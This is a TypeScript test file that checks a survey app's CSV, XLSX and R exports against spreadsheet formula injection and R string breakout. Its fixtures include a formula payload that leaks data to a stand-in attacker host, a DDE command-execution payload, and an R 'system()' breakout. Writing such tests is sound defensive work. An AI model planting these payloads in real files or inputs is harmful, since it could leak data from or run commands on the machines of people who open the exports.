import ExcelJS from "exceljs";
import request from "supertest";
import { afterAll, describe, expect, it } from "vitest";
import { createApiToken } from "../../server/services/accounts.js";
import { addUser, freshApp } from "../helpers.js";
import { sqlRows } from "../support/sql.js";
import { FORMULA_START, PLAIN_NUMBER, close, csrfOf, formulaCells, listen, login, parseCsv } from "./support.js";

/**
 * Spreadsheet formula injection: texts that a spreadsheet would run (`=HYPERLINK(…)`, `+1`,
 * `-1`, `@SUM(1)`, a leading tab or carriage return) typed into labels and answers must come
 * out of every CSV and XLSX export as text, never as a formula. Exports that a route does not
 * serve yet (404) are skipped, named.
 */

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"] as const;
const R_BREAKOUT = '"); system("touch /tmp/pwned"); ("';

const hidden = (html: string) =>
  Object.fromEntries([...html.matchAll(/<input type="hidden" name="(_\w)" value="([^"]*)">/g)].map((m) => [m[1]!, m[2]!]));

/** A study whose labels and answers are formulas, with two waves of respondents who typed formulas too. */
async function build() {
  const { app, db } = freshApp({ production: true });
  const user = await addUser(db, "researcher");
  const apiToken = (await createApiToken(db, user.id, "exports")).token;
  const server = await listen(app);
  const agent = await login(server, user.email);
  const csrf = await csrfOf(agent);
  const both = (s: string) => ({ ru: s, en: s });
  const def = {
    name: FORMULAS[0],
    brand: "+brand",
    category: "@category",
    locale: "en",
    segments: [
      { key: "subscribers", label: both(FORMULAS[1]) },
      { key: "active_unsubscribed", label: both(FORMULAS[3]) },
      { key: "inactive", label: both(R_BREAKOUT) },
    ],
    questions: [
      {
        key: "aided",
        type: "multi",
        text: both(FORMULAS[4]),
        options: [
          { key: "brand", text: both("=1+2") },
          { key: "none", text: both("-none"), exclusive: true },
        ],
        metric: { name: "aided_awareness", positive: ["brand"] },
      },
      { key: "feedback", type: "text", required: false, text: both("@feedback") },
    ],
  };
  const imported = await agent.post("/studies/import").type("form").send({ _csrf: csrf, definition: JSON.stringify(def) }).expect(303);
  const studyId = Number(/\/studies\/(\d+)/.exec(imported.headers["location"] as string)![1]);
  let n = 0;
  for (const kind of ["pre", "post"]) {
    const created = await agent.post(`/studies/${studyId}/waves`).type("form").send({ _csrf: csrf, kind, label: `=${kind}()` }).expect(303);
    const waveId = Number(/\/waves\/(\d+)/.exec(created.headers["location"] as string)![1]);
    await agent.post(`/waves/${waveId}/open`).type("form").send({ _csrf: csrf }).expect(303);
    const links = await sqlRows<{ id: number; token: string }>(db, "SELECT id, token FROM links WHERE wave_id = ? ORDER BY id", [waveId]);
    for (const link of links) {
      await agent.post(`/waves/${waveId}/links/${link.id}`).type("form").send({ _csrf: csrf, sourceLabel: "=source()" }).expect(303);
      for (const formula of FORMULAS) {
        const respondent = request.agent(server);
        const rid = encodeURIComponent(formula);
        const page = await respondent.get(`/s/${link.token}?rid=${rid}&utm_source=${rid}`).expect(200);
        const answers = { q_aided: n++ % 2 ? "brand" : "none", q_feedback: formula };
        await respondent.post(`/s/${link.token}?rid=${rid}&utm_source=${rid}`).type("form").send({ ...hidden(page.text), ...answers }).expect(303);
      }
    }
  }
  // Forms trim what is typed; a tab or carriage return in front can still reach the database another way.
  await sqlRows(db, "UPDATE answers SET value_text = ? WHERE id = (SELECT min(id) FROM answers WHERE value_text IS NOT NULL)", ["\t=1+1"]);
  await sqlRows(db, "UPDATE answers SET value_text = ? WHERE id = (SELECT max(id) FROM answers WHERE value_text IS NOT NULL)", ["\r=1+1"]);
  await sqlRows(db, "UPDATE segments SET label = ? WHERE key = 'active_unsubscribed' AND study_id = ?", [JSON.stringify({ ru: "\t=tab", en: "\t=tab" }), studyId]);
  return { db, server, agent, apiToken, studyId };
}

const w = await build();

afterAll(async () => {
  await close(w.server);
});

const EXPORTS = [
  "results.csv?format=raw",
  "results.csv?format=excel-ru",
  "results.csv?format=excel-en",
  "results.xlsx",
  "responses.csv?format=raw",
  "responses.csv?format=excel-ru",
  "responses.xlsx",
  "codebook.csv?format=raw",
  "results.R",
] as const;
type ExportName = (typeof EXPORTS)[number];

async function download(via: "web" | "api", name: ExportName) {
  const path = via === "web" ? `/studies/${w.studyId}/${name}` : `/api/studies/${w.studyId}/${name}`;
  const req = via === "web" ? w.agent.get(path) : request(w.server).get(path).set("Authorization", `Bearer ${w.apiToken}`);
  return req.buffer(true).parse((res, callback) => {
    const chunks: Buffer[] = [];
    res.on("data", (c: Buffer) => chunks.push(c));
    res.on("end", () => callback(null, Buffer.concat(chunks)));
  });
}

async function csvCells(via: "web" | "api", name: ExportName) {
  const res = await download(via, name);
  expect(res.status, `${via} ${name}`).toBe(200);
  const text = (res.body as Buffer).toString("utf8");
  const delimiter = name.includes("excel-ru") ? ";" : ",";
  return parseCsv(text, delimiter).flatMap((row, r) => row.map((value, c) => ({ where: `row ${r + 1} col ${c + 1}`, value })));
}

async function xlsxCells(via: "web" | "api", name: ExportName) {
  const res = await download(via, name);
  expect(res.status, `${via} ${name}`).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(res.body as unknown as ExcelJS.Buffer);
  const cells: Array<{ where: string; value: string; formula: boolean }> = [];
  workbook.eachSheet((sheet) => {
    sheet.eachRow({ includeEmpty: false }, (row, r) => {
      row.eachCell({ includeEmpty: false }, (cell, c) => {
        const formula = cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined || (typeof cell.value === "object" && cell.value !== null && ("formula" in cell.value || "sharedFormula" in cell.value));
        const value = typeof cell.value === "string" ? cell.value : cell.value === null || cell.value === undefined ? "" : typeof cell.value === "object" ? JSON.stringify(cell.value) : String(cell.value);
        cells.push({ where: `${sheet.name}!R${r}C${c}`, value, formula });
      });
    });
  });
  return cells;
}

describe.each(["web", "api"] as const)("formula injection in exports (%s)", (via) => {
  for (const name of ["results.csv?format=raw", "results.csv?format=excel-ru", "results.csv?format=excel-en", "responses.csv?format=raw", "responses.csv?format=excel-ru", "codebook.csv?format=raw"] as const) {
    it(`${name}: no cell starts a formula`, async () => {
      const cells = await csvCells(via, name);
      expect(cells.length).toBeGreaterThan(3);
      expect(formulaCells(cells)).toEqual([]);
    });
  }

  it("responses.csv: the typed formulas are there, neutralised with a leading apostrophe", async () => {
    const values = (await csvCells(via, "responses.csv?format=raw")).map((c) => c.value);
    expect(values).toContain(`'${FORMULAS[0]}`);
    expect(values).toContain("'@SUM(1)");
    expect(values).toContain("'+1+1");
    expect(values).toContain("'-1+1");
    expect(values.some((v) => v === "'\t=1+1" || v === "'\r=1+1")).toBe(true);
  });

  for (const name of ["results.xlsx", "responses.xlsx"] as const) {
    it(`${name}: no formula cell and no text that starts a formula`, async () => {
      const cells = await xlsxCells(via, name);
      expect(cells.length).toBeGreaterThan(3);
      expect(cells.filter((c) => c.formula).map((c) => c.where)).toEqual([]);
      expect(formulaCells(cells)).toEqual([]);
    });
  }

  it("responses.xlsx: the typed formulas are there as text, with a leading apostrophe", async () => {
    const values = (await xlsxCells(via, "responses.xlsx")).map((c) => c.value);
    expect(values).toContain(`'${FORMULAS[0]}`);
    expect(values).toContain("'@SUM(1)");
  });

  it("results.R: a label that tries to break out of its R string stays a string", async () => {
    const res = await download(via, "results.R");
    expect(res.status).toBe(200);
    const script = (res.body as Buffer).toString("utf8");
    expect(script).not.toContain(R_BREAKOUT);
    expect(script).not.toMatch(/^[^#"]*system\(/m);
    expect(script).toContain(JSON.stringify(R_BREAKOUT).slice(1, -1));
  });
});

describe("the formula check itself", () => {
  it("flags cells a spreadsheet would run and lets numbers and neutralised text pass", () => {
    const cells = (values: string[]) => values.map((value, i) => ({ where: String(i), value }));
    expect(formulaCells(cells(["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"]))).toHaveLength(6);
    expect(formulaCells(cells(["'=1+1", "-0.05", "-12", "+3.5", "+1", "1e-5", "text", ""]))).toEqual([]);
    expect(FORMULA_START.test("=x") && PLAIN_NUMBER.test("-0.05")).toBe(true);
  });
});
